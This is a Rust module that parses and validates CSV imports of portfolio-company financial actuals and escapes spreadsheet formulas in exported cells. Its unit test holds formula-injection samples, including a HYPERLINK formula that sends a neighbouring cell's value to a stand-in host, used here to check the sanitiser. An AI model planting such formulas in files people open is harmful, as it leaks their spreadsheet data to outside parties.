//! The actuals CSV import format: parsing and validation of every row before anything is written.
//!
//! Template (header required, columns in any order, `period` and `source` optional):
//! ```text
//! company,metric,value,effective_date,period,source
//! Acme Robotics,REVENUE,1250000.00,2026-03-31,2026-03-31,import
//! ```
//! A file is all-or-nothing: [`parse_actuals_csv`] returns every bad cell of every row (line,
//! column, reason) or the rows ready to record.

use std::collections::HashMap;

use chrono::{DateTime, Duration, NaiveDate, Utc};
use rust_decimal::Decimal;
use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::csv_file::CsvFile;
use crate::fund::decide::{FUTURE_TOLERANCE_HOURS, MAX_AMOUNT};
use crate::fund::{ActualSource, Metric};

/// Columns of the import, required first.
pub const CSV_COLUMNS: [&str; 6] = ["company", "metric", "value", "effective_date", "period", "source"];
const REQUIRED: [&str; 4] = ["company", "metric", "value", "effective_date"];

/// Most data rows in one file (one append transaction).
pub const MAX_CSV_ROWS: usize = 10_000;

/// The template served at `GET /api/funds/{id}/actuals/template.csv`.
pub const CSV_TEMPLATE: &str = "company,metric,value,effective_date,period,source\n\
Acme Robotics,REVENUE,1250000.00,2026-03-31,2026-03-31,import\n\
Acme Robotics,CASH_BURN,310000,2026-03-31,,import\n\
6f1d1f1e-0000-4000-8000-000000000001,EBITDA,-45000.50,2026-04-02,2026-03-31,manual\n";

/// A cell for a CSV file people open in a spreadsheet: text starting with `=`, `+`, `-`, `@`, tab or
/// carriage return would run as a formula (`=HYPERLINK(…)` leaking the neighbouring cells), so it
/// gets a leading `'`, which spreadsheets show as text. A cell that is a number (`-45000.50`)
/// stays as it is, so negative figures remain numeric.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<Decimal>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// One problem in the file. `line` is 1-based as an editor shows it (the header is line 1).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RowError {
    pub line: u64,
    pub column: String,
    pub reason: String,
}

/// A valid row, ready to become an ACTUAL_RECORDED event.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CsvActual {
    pub line: u64,
    pub company_id: Uuid,
    pub metric: Metric,
    pub value: Decimal,
    pub effective_at: DateTime<Utc>,
    pub period: Option<NaiveDate>,
    pub source: ActualSource,
}

/// The fund's companies, found by id or by exact name.
#[derive(Debug, Default, Clone)]
pub struct CompanyDirectory {
    ids: std::collections::HashSet<Uuid>,
    by_name: HashMap<String, Vec<Uuid>>,
    added_at: HashMap<Uuid, DateTime<Utc>>,
}

impl CompanyDirectory {
    pub fn new<'a>(companies: impl IntoIterator<Item = (Uuid, &'a str)>) -> Self {
        let mut d = CompanyDirectory::default();
        for (id, name) in companies {
            d.ids.insert(id);
            d.by_name.entry(name.to_string()).or_default().push(id);
        }
        d
    }

    /// Records when a company joined the fund: no actual may be dated earlier.
    pub fn with_added_at(mut self, id: Uuid, at: DateTime<Utc>) -> Self {
        self.added_at.insert(id, at);
        self
    }

    /// Whether some company of the fund has exactly this name.
    pub fn contains_name(&self, name: &str) -> bool {
        self.by_name.contains_key(name)
    }

    /// A company id or its exact (case-sensitive) name.
    pub fn resolve(&self, raw: &str) -> Result<Uuid, String> {
        if let Ok(id) = raw.parse::<Uuid>() {
            return if self.ids.contains(&id) { Ok(id) } else { Err(format!("no company with id {id} in this fund")) };
        }
        match self.by_name.get(raw).map(Vec::as_slice) {
            Some([id]) => Ok(*id),
            Some(_) => Err(format!("{raw:?} names several companies; use the company id")),
            None => Err(format!("no company named {raw:?} in this fund (names must match exactly)")),
        }
    }
}

/// What the rows are checked against.
pub struct CsvContext<'a> {
    pub companies: &'a CompanyDirectory,
    /// The fund's first effective date: no actual may be earlier.
    pub fund_start: Option<DateTime<Utc>>,
    pub now: DateTime<Utc>,
}

/// Parses and validates the whole file; all errors, or all rows.
pub fn parse_actuals_csv(bytes: &[u8], ctx: &CsvContext<'_>) -> Result<Vec<CsvActual>, Vec<RowError>> {
    let mut file = CsvFile::open(bytes, &CSV_COLUMNS, &REQUIRED, "expected")?;
    let mut rows = Vec::new();
    let mut errors = Vec::new();
    let mut record = csv::ByteRecord::new();
    while let Some(next) = file.next_record(&mut record) {
        let line = match next {
            Ok(line) => line,
            Err(e) => {
                errors.push(e);
                break;
            }
        };
        if rows.len() + errors.len() >= MAX_CSV_ROWS {
            errors.push(RowError { line, column: "row".into(), reason: format!("a file may hold at most {MAX_CSV_ROWS} rows") });
            break;
        }
        if let Some(e) = file.width_error(line, &record) {
            errors.push(e);
            continue;
        }
        match parse_row(line, &record, &file.columns, ctx) {
            Ok(row) => rows.push(row),
            Err(mut e) => errors.append(&mut e),
        }
    }
    if rows.is_empty() && errors.is_empty() {
        errors.push(RowError { line: 2, column: "row".into(), reason: "the file has no data rows".into() });
    }
    if errors.is_empty() {
        Ok(rows)
    } else {
        Err(errors)
    }
}

fn parse_row(
    line: u64,
    record: &csv::ByteRecord,
    columns: &HashMap<&'static str, usize>,
    ctx: &CsvContext<'_>,
) -> Result<CsvActual, Vec<RowError>> {
    let mut errors = Vec::new();
    let mut fail = |column: &str, reason: String| errors.push(RowError { line, column: column.to_string(), reason });
    let mut cell = |column: &'static str| -> Option<String> {
        let i = *columns.get(column)?;
        match std::str::from_utf8(&record[i]) {
            Ok(s) => Some(s.trim().to_string()),
            Err(_) => {
                fail(column, "is not valid UTF-8".into());
                None
            }
        }
    };
    let raw: HashMap<&str, Option<String>> = CSV_COLUMNS.iter().map(|c| (*c, cell(c))).collect();
    let get = |c: &str| raw.get(c).cloned().flatten().filter(|s| !s.is_empty());

    let company = match get("company") {
        None => Err("is required".to_string()),
        Some(s) => ctx.companies.resolve(&s),
    };
    let metric = match get("metric") {
        None => Err("is required".to_string()),
        Some(s) => parse_metric(&s),
    };
    let value = match get("value") {
        None => Err("is required".to_string()),
        Some(s) => crate::amount::parse_strict(&s).map_err(|_| format!("{s:?} is not a number (use . for decimals, no thousands separators)")),
    };
    let effective_at = match get("effective_date") {
        None => Err("is required".to_string()),
        Some(s) => parse_day_or_moment(&s).and_then(|t| check_effective(t, ctx)),
    };
    let period = get("period").map(|s| {
        match NaiveDate::parse_from_str(&s, "%Y-%m-%d") {
            Ok(d) => crate::dates::check_day(d),
            Err(_) => Err(format!("{s:?} is not a date (YYYY-MM-DD, the last day of the period)")),
        }
    });
    let source = match get("source") {
        None => Ok(ActualSource::Import),
        Some(s) => parse_source(&s),
    };
    let effective_at = match (&company, effective_at) {
        (Ok(id), Ok(t)) => match ctx.companies.added_at.get(id) {
            Some(added) if t < *added => Err(format!("is before the company was added ({})", added.date_naive())),
            _ => Ok(t),
        },
        (_, t) => t,
    };
    let value = match (&metric, value) {
        (Ok(m), Ok(v)) => check_value(*m, v),
        (_, v) => v,
    };
    let problems = [
        ("company", company.as_ref().err()),
        ("metric", metric.as_ref().err()),
        ("value", value.as_ref().err()),
        ("effective_date", effective_at.as_ref().err()),
        ("period", period.as_ref().and_then(|p| p.as_ref().err())),
        ("source", source.as_ref().err()),
    ];
    for (column, reason) in problems {
        if let Some(reason) = reason {
            fail(column, reason.clone());
        }
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    Ok(CsvActual {
        line,
        company_id: company.expect("checked"),
        metric: metric.expect("checked"),
        value: value.expect("checked"),
        effective_at: effective_at.expect("checked"),
        period: period.transpose().expect("checked"),
        source: source.expect("checked"),
    })
}

/// `REVENUE`, `revenue`, `Cash burn`, `cash-burn` all name a metric.
pub fn parse_metric(s: &str) -> Result<Metric, String> {
    let norm = s.trim().to_ascii_uppercase().replace([' ', '-'], "_");
    Metric::ALL.into_iter().find(|m| m.as_str() == norm).ok_or_else(|| {
        let names: Vec<&str> = Metric::ALL.iter().map(|m| m.as_str()).collect();
        format!("{s:?} is not a metric; expected one of {}", names.join(", "))
    })
}

pub fn parse_source(s: &str) -> Result<ActualSource, String> {
    match s.trim().to_ascii_lowercase().as_str() {
        "manual" => Ok(ActualSource::Manual),
        "import" => Ok(ActualSource::Import),
        "api" => Ok(ActualSource::Api),
        _ => Err(format!("{s:?} is not a source; expected manual, import or api")),
    }
}

/// A date (`2026-03-31`, the start of that day UTC) or an RFC 3339 timestamp.
/// Dates outside `crate::dates`' range are refused.
pub fn parse_day_or_moment(s: &str) -> Result<DateTime<Utc>, String> {
    crate::dates::parse_moment(s, false)
}

fn check_effective(t: DateTime<Utc>, ctx: &CsvContext<'_>) -> Result<DateTime<Utc>, String> {
    if t > ctx.now + Duration::hours(FUTURE_TOLERANCE_HOURS) {
        return Err("cannot be in the future".into());
    }
    if let Some(start) = ctx.fund_start {
        if t < start {
            return Err(format!("is before the fund existed ({})", start.date_naive()));
        }
    }
    Ok(t)
}

/// The value rules of ACTUAL_RECORDED (see `fund::decide`), checked here so every row is reported.
pub fn check_value(metric: Metric, v: Decimal) -> Result<Decimal, String> {
    if !metric.allows_negative() && v.is_sign_negative() && !v.is_zero() {
        return Err(format!("cannot be negative for {}", metric.as_str()));
    }
    if v.abs() > MAX_AMOUNT {
        return Err(format!("must not exceed {MAX_AMOUNT}"));
    }
    Ok(v)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spreadsheet_formulas_are_neutralised_and_numbers_kept() {
        assert_eq!(spreadsheet_safe("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
        for risky in ["+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
            assert_eq!(spreadsheet_safe(risky), format!("'{risky}"), "{risky:?}");
        }
        for kept in ["-45000.50", "-1", "+1", "Acme Robotics", "", "2026-03-31"] {
            assert_eq!(spreadsheet_safe(kept), kept, "{kept:?}");
        }
        for cell in CSV_TEMPLATE.lines().flat_map(|l| l.split(',')) {
            assert_eq!(spreadsheet_safe(cell), cell, "the template's cells are safe as they are");
        }
    }
}
